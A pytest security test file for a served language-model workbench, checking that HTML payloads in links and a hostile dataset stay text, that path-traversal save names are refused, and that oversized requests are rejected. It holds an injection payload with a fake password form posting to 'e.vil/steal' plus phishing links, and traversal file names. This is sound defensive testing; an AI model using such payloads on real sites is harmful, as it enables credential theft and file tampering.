"""A stranger's view of a served workbench: crafted links, an evil dataset, path traversal,
oversized and abandoned requests, and binding beyond loopback.

The server is the real `promptlit serve` (embedded tiny model) with an extra dataset whose text
is full of HTML / Markdown payloads and a save folder; the browser is headless Chromium. What is
asserted is that no element from a payload exists in the DOM (not only that no script ran),
that nothing is written outside the save folder, and that the server refuses what is too big.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from promptlit.server import free_port

from .conftest import REPO, shoot, start_server, stop_server

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

PAYLOAD = ('<form id="evil-form" action="https://e.vil/steal"><input id="evil-input" '
           'type="password" name="pw"></form>[click](https://e.vil/phish) '
           '![x](https://e.vil/x.png)<img id="evil-img" src="https://e.vil/y.png"> '
           '<a id="evil-link" href="https://e.vil">link</a> https://e.vil/auto **bold**')
EVIL_ROWS = [
    {"prompt": f"Q: what is this? {PAYLOAD}\nA:", "target": f" {PAYLOAD}", "source": PAYLOAD},
    {"prompt": "Q: 2 + 2 =\nA:", "target": " 4", "source": "arithmetic <b id=evil-b>x</b>"},
]
EVIL_SELECTOR = ("#evil-form, #evil-input, #evil-img, #evil-link, #evil-b, "
                 "a[href*='e.vil'], img[src*='e.vil'], form[action*='e.vil'], "
                 "input[type='password']")


@pytest.fixture(scope="module")
def evil_server(tmp_path_factory: pytest.TempPathFactory):
    """`promptlit serve` with the sample prompts, the evil dataset and a save folder:
    yields (url, save folder, server log)."""
    tmp = tmp_path_factory.mktemp("serve-security")
    data = tmp / "evil.jsonl"
    data.write_text("".join(json.dumps(r) + "\n" for r in EVIL_ROWS), encoding="utf-8")
    saves = tmp / "saves"
    url, proc, log = start_server(tmp, "--datasets", f"sample_prompts,evil:{data}",
                                  "--save-dir", str(saves))
    try:
        yield url, saves, log
    finally:
        stop_server(proc)


def evil_elements(page) -> list[str]:
    return page.eval_on_selector_all(EVIL_SELECTOR, "els => els.map(e => e.outerHTML)")


def footer_text(page) -> str:
    return page.inner_text("#pl-footer")


def test_crafted_link_parameters_stay_text(evil_server, page):
    url, _, _ = evil_server
    from urllib.parse import urlencode

    query = urlencode({"dataset": PAYLOAD, "model": PAYLOAD, "example": PAYLOAD})
    page.goto(f"{url}?{query}")
    page.wait_for_function(
        "() => (document.querySelector('#pl-footer')?.innerText || '').includes('in the link')")
    shoot(page, "security_crafted_link")
    assert evil_elements(page) == []
    text = footer_text(page)
    assert '<form id="evil-form"' in text and "[click](https://e.vil/phish)" in text


def test_evil_dataset_renders_as_text_everywhere(evil_server, page):
    url, _, _ = evil_server
    page.goto(f"{url}?dataset=evil&example=0&layout=default")
    page.wait_for_selector("#pl-table")
    page.wait_for_function(
        "() => (document.querySelector('#pl-salience-view')?.innerText || '').includes('PROMPT')")
    # A slice named with the payload lists it as text.
    # The LM page's modules of other layouts (the slice editor) live in the "More" tab.
    page.get_by_role("tab", name="More").click()
    page.fill("#pl-slice-name textarea, #pl-slice-name input", PAYLOAD)
    page.click("#pl-slice-save")
    page.wait_for_function(
        "() => (document.querySelector('#pl-slice-list')?.innerText || '').includes('e.vil')")
    # Explain the example's target (dataset text) so the info line quotes it.
    page.click("#pl-explain-target label:has-text('target')")
    page.click("#pl-explain")
    page.wait_for_function(
        "() => document.querySelector('#pl-footer')?.innerText.includes('salience ready')",
        timeout=300_000)
    page.wait_for_function(
        "() => (document.querySelector('#pl-salience-info')?.innerText || '').includes('e.vil')")
    shoot(page, "security_evil_dataset")
    assert evil_elements(page) == []
    assert "<form" in page.inner_text("#pl-salience-info")
    assert "<form" in page.inner_text("#pl-slice-list")


def test_saving_from_the_page_stays_in_the_save_folder(evil_server, page, tmp_path):
    url, saves, _ = evil_server
    page.goto(f"{url}?dataset=sample_prompts&example=1")
    page.wait_for_selector("#pl-table")
    page.get_by_role("tab", name="Datapoint Editor").click()
    page.wait_for_function(
        "() => (document.querySelector('#pl-edit-prompt textarea')?.value || '').length > 0")
    page.fill("#pl-edit-prompt textarea", "Q: What is 3 + 4?\nA:")
    page.click("#pl-add")
    page.wait_for_function(
        "() => (document.querySelector('#pl-footer')?.innerText || '').includes('added example')")
    target = tmp_path / "escaped.jsonl"
    for name in ("../../escape", str(target), "/tmp/anything/x.conf"):
        page.fill("#pl-save-path textarea, #pl-save-path input", name)
        page.click("#pl-save")
        page.wait_for_function(
            "() => (document.querySelector('#pl-footer')?.innerText || '')"
            ".includes('not a plain file name')")
    assert not target.exists() and not Path("/tmp/anything/x.conf").exists()
    assert not any(saves.parent.glob("escape*"))
    page.fill("#pl-save-path textarea, #pl-save-path input", "mine")
    page.click("#pl-save")
    page.wait_for_function(
        "() => (document.querySelector('#pl-footer')?.innerText || '').includes('saved 1')")
    assert sorted(p.name for p in saves.iterdir()) == ["mine.jsonl", "mine.jsonl.spec"]
    # Saving again under the same name asks first; the second press overwrites.
    page.click("#pl-save")
    page.wait_for_function(
        "() => (document.querySelector('#pl-footer')?.innerText || '')"
        ".includes('press Save again')")
    page.click("#pl-save")
    page.wait_for_function(
        "() => (document.querySelector('#pl-footer')?.innerText || '').includes('saved 1')")
    with page.expect_download() as download:
        page.click("#pl-download")
    rows = Path(download.value.path()).read_text(encoding="utf-8").splitlines()
    assert len(rows) == 1 and json.loads(rows[0])["prompt"].startswith("Q: What is")


def test_oversized_requests_are_refused_and_others_are_served(evil_server):
    from gradio_client import Client

    url, _, _ = evil_server
    client = Client(url, verbose=False)
    limits = client.predict(api_name="/info")["limits"]
    with pytest.raises(Exception, match="ig_steps must be between 1 and"):
        client.predict(example=0, method="integrated_gradients",
                       ig_steps=limits["max_ig_steps"] * 4, api_name="/salience")
    with pytest.raises(Exception, match="characters; this server accepts at most"):
        client.predict(prompt="x" * (limits["max_prompt_chars"] + 1), api_name="/generate")
    with pytest.raises(Exception, match="top_k must be between 1"):
        client.predict(example=0, top_k=-1, api_name="/salience")
    out = client.predict(dataset="sample_prompts", example=5, api_name="/generate")
    assert out["response"]


def test_a_cancelled_request_stops_its_work(evil_server):
    from gradio_client import Client

    url, _, log = evil_server
    client = Client(url, verbose=False)
    job = client.submit(dataset="sample_prompts", example=0, method="integrated_gradients",
                        ig_steps=256, api_name="/salience")
    deadline = time.monotonic() + 120
    while job.status().code.name not in ("PROCESSING",) and time.monotonic() < deadline:
        time.sleep(0.2)
    time.sleep(1.0)
    job.cancel()
    while "cancelled: its client cancelled or went away" not in log.read_text(errors="replace"):
        assert time.monotonic() < deadline + 120, "the server never stopped the cancelled work"
        time.sleep(0.5)
    out = client.predict(dataset="sample_prompts", example=1, api_name="/generate")
    assert out["response"]


def test_public_bind_without_auth_is_refused_in_demo_mode_and_warned_otherwise(tmp_path):
    cmd = [sys.executable, "-m", "promptlit", "serve", "--host", "0.0.0.0", "--port",
           str(free_port()), "--no-browser", "--demo-mode", "--cache-dir", str(tmp_path)]
    done = subprocess.run(cmd, cwd=REPO, capture_output=True, text=True, timeout=120)
    assert done.returncode != 0
    assert "--allow-public" in done.stderr and "--auth" in done.stderr


def test_browser_side_redraws_keep_evil_text_as_text(evil_server, page):
    """Span clicks and granularity switches redrawn in the browser (`fast_salience`) set every
    token and segment through textContent: the payload in the prompt and the explained target
    stays text."""
    url, _, _ = evil_server
    page.goto(f"{url}?dataset=evil&example=0&layout=lm&granularity=words")
    page.wait_for_function(
        "() => (document.querySelector('#pl-salience-view')?.innerText || '').includes('PROMPT')")
    page.click("#pl-explain-target label:has-text('target')")
    page.click("#pl-explain")
    page.wait_for_function(
        "() => document.querySelector('#pl-footer')?.innerText.includes('salience ready')",
        timeout=300_000)
    page.wait_for_selector("#pl-ranked table.pl-ranked")
    n = page.eval_on_selector_all("#pl-salience-view .pl-resp[data-index]", "e => e.length")
    page.wait_for_function("() => window.promptlitSalience && "
                           "window.promptlitSalience.aggregate('grad_l2', 0, 1, 'tokens')")
    for index in (1, n // 2, n - 1):
        page.click(f'#pl-salience-view .pl-resp[data-index="{index}"]')
        page.wait_for_selector(f'#pl-ranked table.pl-ranked[data-span="{index}:{index + 1}"]')
        assert evil_elements(page) == []
    for g in ("tokens", "sentences", "lines"):
        page.locator("#pl-granularity").get_by_label(g, exact=True).check()
        page.wait_for_selector(f'#pl-ranked table.pl-ranked[data-granularity="{g}"]')
        assert evil_elements(page) == []
    assert "<form" in page.inner_text("#pl-salience-view .pl-prompt")
    shoot(page, "security_fast_redraw")
